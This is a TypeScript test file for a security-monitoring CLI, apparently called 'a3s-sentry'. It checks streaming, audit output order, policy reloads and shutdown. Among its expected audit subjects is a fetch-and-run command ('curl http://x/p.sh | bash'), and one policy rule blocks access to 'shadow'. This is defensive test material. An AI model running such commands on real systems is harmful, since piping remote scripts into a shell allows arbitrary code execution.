// `a3s-sentry run` on a stream as fast as it is read, so that several threads judge it.
import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { describe, expect, it } from "vitest";
import { bash, type Running, scratch, start } from "./command.js";
import { attack, audits, BENIGN, ESCALATION, METADATA, totals } from "./events.js";

const SESSION = readFileSync(new URL("../../examples/session.ndjson", import.meta.url), "utf8");

/** Writes as fast as the command reads. */
async function write(running: Running, text: string, times: number): Promise<void> {
  const { stdin } = running.child;
  for (let i = 0; i < times; i++) if (!stdin.write(text)) await once(stdin, "drain");
}

const rule = (name: string) =>
  `rule "${name}" { on = "FileAccess" match = "shadow" verdict = "block" severity = "low" reason = "r" }\n`;
/** 100 KB of lines, one of which `rule` blocks. */
const STRETCH = BENIGN.repeat(2000) + ESCALATION;

describe.each([
  ["a file", "$SENTRY run --exec-deny deny <in"],
  ["a pipe", "cat in | $SENTRY run --exec-deny deny"],
])("from %s", (_, command) => {
  it("gives the audit lines of each session in order", async () => {
    const cwd = scratch();
    writeFileSync(join(cwd, "in"), SESSION);
    const { stdout: once, stderr: onceTotals } = await bash(command, { cwd });
    const times = 300;
    writeFileSync(join(cwd, "in"), SESSION.repeat(times));
    const { code, stdout, stderr } = await bash(command, { cwd });
    expect(code).toBe(0);
    expect(stdout === once.repeat(times)).toBe(true);
    const numbers = (text: string) =>
      (totals(text)?.match(/[\d,]+(?= (?!KiB))/g) ?? []).map((n) => n.replace(/,/g, ""));
    expect(numbers(stderr).map(Number)).toEqual(numbers(onceTotals).map((n) => Number(n) * times));
  });
});

it("starts in a large file at the current position of its descriptor", async () => {
  const cwd = scratch();
  writeFileSync(join(cwd, "in"), METADATA.repeat(3) + BENIGN.repeat(200_000) + METADATA);
  const consume = `dd bs=${METADATA.length} count=2 of=/dev/null 2>/dev/null`;
  const { code, stdout } = await bash(`{ ${consume}; $SENTRY run; } <in`, { cwd });
  expect(code).toBe(0);
  expect(audits(stdout)).toHaveLength(2);
});

it("prints each audit line soon, even if the stream is never idle", async () => {
  const running = start(["run"]);
  let over = false;
  const flood = (async () => {
    while (!over) {
      await write(running, BENIGN, 2000);
      await sleep(1);
    }
  })();
  const wanted = Array.from({ length: 50 }, (_, i) => `/bin/${i}/curl http://x/p.sh | bash`);
  for (let i = 0; i < wanted.length; i++) {
    running.child.stdin.write(attack(`/bin/${i}`));
    await sleep(10);
  }
  // Together they are smaller than the size that triggers a write.
  await running.until(({ stdout }) => stdout.split("\n").length > wanted.length);
  over = true;
  await flood;
  expect(audits(running.stdout).map(({ subject }) => subject)).toEqual(wanted);
  running.child.stdin.end();
  expect((await running.ended).code).toBe(0);
});

it("applies a changed policy from one line on", async () => {
  const cwd = scratch();
  writeFileSync(join(cwd, "p.acl"), rule("one"));
  const running = start(["run", "--policy", "p.acl"], { cwd });
  await write(running, STRETCH, 100);
  await running.until(({ stdout }) => stdout.includes("one"));
  writeFileSync(join(cwd, "p.acl"), rule("two"));
  let times = 100;
  for (; !running.stderr.includes("reloaded"); times++) await write(running, STRETCH, 1);
  await write(running, STRETCH, 100);
  running.child.stdin.end();
  const { stdout, code } = await running.ended;
  const rules = audits(stdout).map(({ decision }) => decision.rule);
  expect(code).toBe(0);
  expect(rules).toHaveLength(times + 100);
  expect(rules.filter((name, i) => name !== rules[i - 1])).toEqual(["one", "two"]);
});

it("drains on SIGTERM, and exits with 0", async () => {
  const running = start(["run"]);
  const flood = write(running, STRETCH + METADATA, 10_000).catch(() => {});
  await running.until(({ stdout }) => stdout.length > 500_000);
  running.child.kill("SIGTERM");
  const { code, stdout, stderr } = await running.ended;
  expect(code).toBe(0);
  const blocked = audits(stdout).filter(({ decision }) => decision.verdict === "block").length;
  expect(totals(stderr)).toContain(` ${blocked.toLocaleString("en-US")} blocked, `);
  await flood;
});
